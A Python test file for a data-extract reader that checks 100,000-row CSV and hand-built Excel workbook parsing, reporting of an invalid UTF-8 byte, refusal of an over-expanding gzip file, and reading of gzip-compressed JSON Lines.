    text, encoding, bad_lines = readers._decode((CORPUS / name).read_bytes())
    if bad_lines:
        return  # records with undecodable bytes: only the slow path reports them
    delimiter, quote = readers._sniff(text)
    split_on = delimiter or readers.NO_SPLIT[0]
    slow = readers._parse_csv_slow(text, split_on, quote, name, bad_lines, encoding)
    fast = readers._parse_csv_fast(text, text.encode("utf-8"), split_on, quote)
    if fast is None:
        return  # ragged, blank lines or an open quote: only the slow path is exact
    assert fast[0] == slow[0] and fast[1] == slow[1] and fast[4] == slow[4]
    assert [c.to_pylist() for c in fast[2]] == [c.to_pylist() for c in slow[2]]
    assert fast[3].to_pylist() == slow[3].to_pylist()


# 100,000-row files, made here rather than committed.

N = 100_000
MiB = 1024**2


def checksum(values: list[str]) -> str:
    return hashlib.sha256("\n".join(values).encode()).hexdigest()


def customer_rows(n: int) -> list[list[str]]:
    rng = random.Random(7)
    names = ["Zoë Müller", "Smith, John", 'Ann "AJ" O\'Neil', "Łukasz"]
    return [
        [f"{i:07d}", f"user{i}@example.org", rng.choice(["Y", "N", "", "NA"]),
         f"2024-{i % 12 + 1:02d}-{i % 28 + 1:02d}", rng.choice(names)]
        for i in range(n)
    ]  # fmt: skip


HEADER = ["customer_id", "email", "email_opt_in", "opt_in_date", "name"]


@pytest.mark.parametrize("newlines", [False, True], ids=["one-line", "quoted-newlines"])
def test_100k_row_csv(tmp_path, newlines):
    rows = customer_rows(N)
    if newlines:
        for row in rows[::10]:
            row[4] = row[4].replace(" ", "\r\n")
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(HEADER)
    writer.writerows(rows)
    path = tmp_path / "big.csv"
    path.write_bytes(buffer.getvalue().encode("utf-8"))
    result = read_extract(path)
    assert result.problems == []
    assert result.dialect == csv_dialect(N)
    assert result.table.num_rows == N
    assert checksum(result.table.column("customer_id").to_pylist()) == checksum(
        [r[0] for r in rows]
    )
    assert result.table.column("name").to_pylist() == [r[4] for r in rows]
    spans = [1 + r[4].count("\n") for r in rows]
    assert result.table.column(LINE_COLUMN).to_pylist()[-1] == 2 + sum(spans[:-1])


def excel_like_workbook(path: Path, header: list[str], rows: list[list]) -> None:
    """A workbook laid out as Excel writes it: shared strings, a dimension, a date style.

    Written directly: openpyxl's writer takes several seconds for 100,000 rows.
    """
    strings: dict[str, int] = {}
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    out = []
    for r, row in enumerate([header, *rows], start=1):
        cells = []
        for c, v in enumerate(row):
            ref = f"{chr(65 + c)}{r}"
            if isinstance(v, str):
                cells.append(f'<c r="{ref}" t="s"><v>{strings.setdefault(v, len(strings))}</v></c>')
            else:  # an Excel serial date
                cells.append(f'<c r="{ref}" s="1"><v>{v}</v></c>')
        out.append(f'<row r="{r}">{"".join(cells)}</row>')
    last = f"{chr(64 + len(header))}{len(rows) + 1}"
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            '<Override PartName="/xl/styles.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{pkg}"><Relationship Id="rId1" '
            f'Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook {ns} xmlns:r="{rel}"><sheets>'
            '<sheet name="Customers" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{pkg}">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/>'
            f'<Relationship Id="rId3" Type="{rel}/styles" Target="styles.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            f'<worksheet {ns}><dimension ref="A1:{last}"/>'
            f"<sheetData>{''.join(out)}</sheetData></worksheet>"
        ),
        "xl/sharedStrings.xml": (
            f'<sst {ns} uniqueCount="{len(strings)}">'
            + "".join(f"<si><t>{escape(s)}</t></si>" for s in strings)
            + "</sst>"
        ),
        "xl/styles.xml": (
            f'<styleSheet {ns}><fonts count="1"><font/></fonts>'
            '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
            '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
            '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/>'
            "</cellXfs></styleSheet>"
        ),
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, xml in parts.items():
            archive.writestr(name, '<?xml version="1.0" encoding="UTF-8"?>\n' + xml)


@pytest.mark.slow
def test_100k_row_workbook(tmp_path):
    rows = [[r[0], r[1], r[2], 45292 + i % 366] for i, r in enumerate(customer_rows(N))]
    path = tmp_path / "big.xlsx"
    excel_like_workbook(path, HEADER[:4], rows)
    result = read_extract(path)
    assert result.problems == []
    assert result.dialect == sheet("Customers", N)
    assert checksum(result.table.column("customer_id").to_pylist()) == checksum(
        [r[0] for r in rows]
    )
    assert result.table.column("email_opt_in").to_pylist()[:4] == [r[2] for r in rows[:4]]
    assert result.table.column("opt_in_date").to_pylist()[:2] == ["2024-01-01", "2024-01-02"]
    assert result.table.column(LINE_COLUMN).to_pylist()[-1] == N + 1


def test_a_large_file_with_one_bad_byte_in_its_middle_reports_that_line(tmp_path):
    # Large files are decoded only at their head and tail: the middle's UTF-8 is checked
    # while it is parsed, and a bad byte there sends the file through the full reading.
    rows = ["customer_id,name", *(f"{i:06d},Zoë Müller {i}" for i in range(60_000))]
    data = ("\n".join(rows) + "\n").encode("utf-8")
    at = data.index(b"030000,")
    end = data.index(b"\n", at)
    path = tmp_path / "big.csv"
    path.write_bytes(data[:at] + b"030000,Andr\xe9" + data[end:])
    assert path.stat().st_size > 4 * readers.HEAD_BYTES
    result = read_extract(path, display_name="big.csv")
    assert result.problems == [
        Problem("big.csv", 30_002, "", "bytes that are not valid UTF-8 text; record not read")
    ]
    assert result.table.num_rows == 59_999
    assert result.dialect == csv_dialect(59_999)
    whole = tmp_path / "whole.csv"
    whole.write_bytes(data)
    clean = read_extract(whole)
    assert clean.problems == [] and clean.table.column("name")[0].as_py() == "Zoë Müller 0"
    assert clean.table.column(LINE_COLUMN).to_pylist()[-1] == 60_001


def test_a_gzip_bomb_is_refused_before_it_expands(tmp_path):
    import gzip

    path = tmp_path / "users.jsonl.gz"
    path.write_bytes(gzip.compress(b'{"a": "' + b"x" * 50_000_000 + b'"}\n'))
    read = read_extract(path, max_ratio=100)
    assert read.table is None
    assert read.problems[0].reason.startswith(
        "refused: the file inside the gzip file expands beyond 6.2 MB"
    )


def test_a_gzip_json_lines_export_is_read_as_the_lines_inside(tmp_path):
    import gzip

    path = tmp_path / "users.json.gz"
    path.write_bytes(gzip.compress(b'{"id": "u1", "email": "a@x.org"}\n{"id": "u2"}\n'))
    read = read_extract(path)
    assert read.dialect.describe() == "gzip-compressed JSON Lines, UTF-8, 2 rows"
    assert read.table.column("id").to_pylist() == ["u1", "u2"]
